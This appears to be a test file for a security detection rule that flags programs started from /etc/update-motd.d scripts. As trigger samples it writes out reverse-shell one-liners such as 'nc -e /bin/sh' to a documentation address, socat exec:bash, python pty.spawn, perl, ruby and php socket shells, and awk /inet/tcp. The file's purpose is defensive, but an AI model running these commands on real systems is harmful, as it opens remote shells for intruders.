# SPDX-License-Identifier: GPL-2.0-or-later
# Programs started by what lies in /etc/update-motd.d and has no business
# there. PARENT is such a file; it starts what stands behind --.
. /tocsin/tests/live/lib.sh
rule=$(rule_id motd_process_spawned) rule_short=motd
watch_start --record $trace
motd=/etc/update-motd.d

for shell in bash dash sh tcsh csh zsh ksh fish; do
	alert $shell 90-x root "$shell -i" "starts $motd/90-x -- $bin/$shell -i \$T"
done
alert bash 90-x root 'bash -l among others' 'starts $motd/90-x -- $bin/bash --norc -l $T'
alert bash socat root 'socat with exec: starts a shell' 'starts $motd/socat TCP:host:1 exec:bash -- $bin/bash $T'
for nc in nc ncat netcat nc.openbsd; do
	alert $nc 90-x root "$nc to somewhere" "starts $motd/90-x -- $bin/$nc -e /bin/sh 2001:db8::1 4444 \$T"
done
alert python3 90-x root 'python: pty.spawn' 'starts $motd/90-x -- $bin/python3 -c "import pty; pty.spawn(\"sh\")" $T'
alert python2.7 90-x root 'python: subprocess.call' 'starts $motd/90-x -- $bin/python2.7 -c "import os,subprocess;subprocess.call(1)" $T'
alert perl 90-x root 'perl: socket and exec' 'starts $motd/90-x -- $bin/perl -e "use Socket; socket(S,1,2,3); exec 1" $T'
alert perl5.36 90-x root 'perl: socket and system' 'starts $motd/90-x -- $bin/perl5.36 -e "socket(S); system 1" $T'
alert ruby 90-x root 'ruby -rsocket: TCPSocket.open' 'starts $motd/90-x -- $bin/ruby -rsocket -e "TCPSocket.open(1)" $T'
alert ruby3.1 90-x root 'ruby -e: TCPSocket.new' 'starts $motd/90-x -- $bin/ruby3.1 -e "TCPSocket.new(1)" $T'
alert lua 90-x root 'lua: io.popen' 'starts $motd/90-x -- $bin/lua -e "s=require(socket.tcp); io.popen(1)" $T'
alert lua5.4 90-x root 'lua: os.execute' 'starts $motd/90-x -- $bin/lua5.4 -e "socket.tcp(); os.execute(1)" $T'
alert php 90-x root 'php: fsockopen and a shell' 'starts $motd/90-x -- $bin/php -r "fsockopen(1); exec(\"/bin/bash -i\")" $T'
for awk in awk gawk mawk nawk; do
	alert $awk 90-x root "$awk: /inet/tcp/" "starts $motd/90-x -- $bin/$awk 'BEGIN{s=\"/inet/tcp/0/2001:db8::1/1\"}' \$T"
done
alert openssl 90-x root 'openssl, whatever it does' 'starts $motd/90-x -- $bin/openssl s_client $T'
alert telnet 90-x root 'telnet' 'starts $motd/90-x -- $bin/telnet $T'
for place in /boot /dev/shm /etc/cron.daily /etc/init.d /etc/update-motd.d \
	/run /srv /tmp /var/tmp /var/log /opt
do
	alert implant 90-x root "a program in $place, no arguments" \
		"ARGV0=$place/implant starts $motd/90-x -- $place/implant"
done
alert relative 90-x root 'a program given as ./' 'actor $bin/relative; cd $bin; ARGV0=./relative starts $motd/90-x -- ./relative'
alert openssl 90-script root 'a script, not a program, starts it' 'actor $bin/openssl; script $motd/90-script "#!/bin/sh
$bin/openssl $T; :"'
alert openssl 91-script root 'run-parts starts the script' 'actor $bin/openssl; printf "#!/bin/bash\n$bin/openssl $T; :\n" >$motd/91-script; chmod +x $motd/91-script; run-parts $motd --regex "^91-script$"'
alert bash 90-x alice 'as another user' 'actor $motd/90-x; actor $bin/bash; acts $motd/90-x "uid 1000" "spawn $bin/bash bash -i $T"'
alert telnet 90-x root 'by a fork of it that never called exec' 'actor $bin/telnet; acts $motd/90-x fork "spawn $bin/telnet telnet $T"'

quiet 'excepted: the parent has --force' 'starts $motd/90-x --force -- $bin/bash -i $T'
quiet 'excepted: lolcat among the arguments' 'starts $motd/90-x -- $bin/bash -i /usr/games/lolcat $T'
quiet 'excepted: screenfetch among the arguments' 'starts $motd/90-x -- $bin/bash -i /usr/bin/screenfetch $T'
quiet 'excepted: the parent is system-crash-notification' 'starts $motd/system-crash-notification -- $bin/openssl $T'

quiet 'bash without -i or -l' 'starts $motd/90-x -- $bin/bash -c "echo hello" $T'
quiet 'socat without exec' 'starts $motd/socat TCP:host:1 - -- $bin/bash $T'
quiet 'another parent with exec:' 'starts $motd/90-x exec:bash -- $bin/bash $T'
quiet 'nc that scans' 'starts $motd/90-x -- $bin/nc -z 2001:db8::1 22 $T'
quiet 'nc that listens' 'starts $motd/90-x -- $bin/nc -lp 4444 $T'
quiet 'nc with one argument' 'starts $motd/90-x -- $bin/nc $T'
quiet 'python without pty or subprocess' 'starts $motd/90-x -- $bin/python3 -c "print(1)" $T'
quiet 'python from a file' 'starts $motd/90-x -- $bin/python3 /usr/lib/import-pty-spawn.py $T'
quiet 'perl without socket' 'starts $motd/90-x -- $bin/perl -e "system 1" $T'
quiet 'perl with socket, without exec or system' 'starts $motd/90-x -- $bin/perl -e "socket(S)" $T'
quiet 'ruby without TCPSocket' 'starts $motd/90-x -- $bin/ruby -rsocket -e "puts 1" $T'
quiet 'ruby without -e' 'starts $motd/90-x -- $bin/ruby TCPSocket.new $T'
quiet 'lua without socket.tcp' 'starts $motd/90-x -- $bin/lua -e "os.execute(1)" $T'
quiet 'php without fsockopen' 'starts $motd/90-x -- $bin/php -r "exec(\"/bin/sh\")" $T'
quiet 'awk that computes' 'starts $motd/90-x -- $bin/awk "{ print \$1 }" $T'
quiet 'a program in /tmp with an argument' 'ARGV0=/tmp/implant starts $motd/90-x -- /tmp/implant $T'
quiet 'a program in /usr/bin without arguments' 'ARGV0=/usr/bin/implant starts $motd/90-x -- /usr/bin/implant'
quiet 'a program in /etc/cron.daily.x' 'ARGV0=/etc/cron/implant starts $motd/90-x -- /etc/cron/implant'
quiet 'a fork without exec' 'acts $motd/90-x fork'
quiet 'the parent lies elsewhere' 'starts /etc/update-motd/90-x -- $bin/bash -i $T'
quiet 'the parent lies beside the folder' 'starts /etc/update-motd.d.old/90-x -- $bin/bash -i $T'
quiet 'a grandchild: a program stands between' 'actor $bin/between; actor $bin/telnet; ACT_1=$(words spawn $bin/telnet telnet $T) starts $motd/90-x -- $bin/between $T'
quiet 'the same program, started by hand' 'actor $bin/openssl; by $bin/openssl $T'
quiet 'a name in capitals where case counts' 'starts $motd/90-x -- $bin/OPENSSL $T'

check_table
check_replay
